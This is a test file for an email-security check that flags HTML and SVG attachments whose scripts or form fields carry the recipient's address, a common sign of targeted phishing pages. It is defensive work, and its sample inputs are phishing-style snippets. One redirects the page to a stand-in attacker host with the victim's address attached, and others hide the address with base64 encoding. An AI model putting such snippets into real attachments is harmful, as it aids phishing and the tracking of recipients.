import { describe, expect, it } from 'vitest';
import { pageKnowsReader } from '../../../src/checks/attachment/page-knows-reader.ts';
import type { Trait } from '../../../src/model.ts';
import { attachment, message, runCheck } from '../../helpers/evidence.ts';

const found = (content: string, parts: { type?: string; traits?: Trait[] } = {}) =>
  runCheck(pageKnowsReader, {
    messages: [message({ from: 'a@b.test', to: ['grace@hospital.example'] })],
    attachments: [attachment('scan.html', { type: 'html', traits: ['html-script'], content, ...parts })],
  });

describe('page-knows-reader', () => {
  it.each([
    '<script>var user = "grace@hospital.example";</script>',
    '<script>location = "https://evil.test/#Grace@hospital.example"</script>',
    `<script>var user = atob("${btoa('grace@hospital.example')}")</script>`,
    `<script>go("${btoa('mail=grace@hospital.example&x=1')}")</script>`,
  ])('catches the address in a script: %s', (content) => {
    expect(found(content)).toEqual({ name: 'scan.html', address: 'grace@hospital.example' });
  });
  it('catches it in a field, and in a drawing', () => {
    expect(found('<form><input value="grace@hospital.example"></form>', { traits: [] })).toBeDefined();
    expect(found('<svg><script>u="grace@hospital.example"</script></svg>', { type: 'svg' })).toBeDefined();
  });
  it('lets a page pass that prints the address or links to write to it', () => {
    const words = '<p>Sent to grace@hospital.example</p><a href="mailto:grace@hospital.example">write</a>';
    expect(found(`${words}<script>count()</script>`)).toBeUndefined();
  });
  it('lets a page without anything to run or fill in pass, and other files', () => {
    expect(found('<p title="grace@hospital.example">Report</p>', { traits: [] })).toBeUndefined();
    expect(found('mail = "grace@hospital.example"', { type: 'txt' })).toBeUndefined();
  });
});
